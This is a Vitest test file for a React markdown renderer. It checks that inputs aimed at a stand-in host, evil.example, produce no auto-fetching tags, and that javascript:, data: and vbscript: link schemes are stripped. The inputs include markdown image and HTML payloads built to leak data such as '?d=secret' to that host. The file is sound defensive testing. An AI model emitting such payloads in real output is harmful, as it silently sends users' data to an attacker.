import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import MarkdownRenderer from './markdown-renderer.tsx';

const html = (text: string) => renderToStaticMarkup(createElement(MarkdownRenderer, { text }));

test.each([
  '![chart](https://evil.example/p.png?d=secret)', '<img src="https://evil.example/x">', '![a][b]\n\n[b]: https://evil.example/p.png', '<iframe src="https://evil.example"></iframe>',
  '<style>@import url(https://evil.example/a.css)</style>', '<svg><image href="https://evil.example/p.png"/></svg>', '<div style="background:url(https://evil.example/p.png)">x</div>',
])('nothing is fetched because of %s', (text) => {
  expect(html(text)).not.toMatch(/<(img|iframe|style|link|script|svg|image|video|audio|object|embed)\b|<[^>]*\s(src|srcset|style|background)=/);
});

test('a link opens only when it is clicked, elsewhere, and shows where it leads; no scheme runs code', () => {
  expect(html('[Details](https://evil.example/?d=1)')).toBe('<p><a href="https://evil.example/?d=1" title="https://evil.example/?d=1" target="_blank" rel="noopener noreferrer">Details</a></p>');
  expect(html('[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)')).not.toMatch(/javascript:|data:|vbscript:/);
});
